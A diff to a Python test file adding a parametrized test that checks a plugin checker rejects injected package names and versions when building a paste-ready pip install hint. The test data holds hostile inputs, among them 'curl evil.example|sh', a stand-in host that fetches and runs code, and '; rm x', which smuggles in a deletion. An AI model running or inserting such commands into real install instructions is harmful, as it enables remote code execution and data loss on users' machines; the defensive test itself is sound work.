@@ -28,6 +28,21 @@ def test_an_absent_plugin_is_an_error_with_the_line_that_installs_it(scan: Any) 
     assert caught.value.hint == "pip install fake-nsf==1.0"
 
 
+@pytest.mark.parametrize(
+    "words",
+    [
+        {"package": "x; curl evil.example|sh #", "version": "1"},
+        {"package": "fake-nsf", "version": "1; rm x"},
+        {"package": "-r evil.txt", "version": None},
+        {"package": "git+https://evil.example/x", "version": None},
+    ],
+)
+def test_a_hint_to_paste_has_the_name_of_a_package_only(words: dict[str, Any], scan: Any) -> None:
+    with pytest.raises(PluginError) as caught:
+        require([{**NSF, **words}], what="the model", known=scan())
+    assert str(caught.value.hint).startswith("this is not the name of a package")
+
+
 def test_another_package_with_the_name_is_no_substitute(install_flow: Any, scan: Any) -> None:
     install_flow("fake-other", "nsf")
     with pytest.raises(PluginError, match=r"from fake-nsf 1\.0, which is not installed"):
